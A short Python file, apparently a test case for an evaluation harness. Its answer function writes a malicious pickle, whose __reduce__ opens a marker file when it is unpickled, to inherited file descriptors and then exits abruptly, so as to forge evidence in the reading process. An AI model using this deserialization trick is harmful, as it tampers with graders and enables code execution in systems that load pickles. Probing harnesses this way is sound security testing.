"""forging: a pickle that runs code where it is opened

Ends: bad evidence
"""

import os, pickle


class Boom:
    def __reduce__(self):
        return (open, ("@MARK@", "w"))


def answer(x):
    for fd in range(3, 20):
        try:
            os.write(fd, pickle.dumps(Boom()))
        except OSError:
            pass
    os._exit(0)
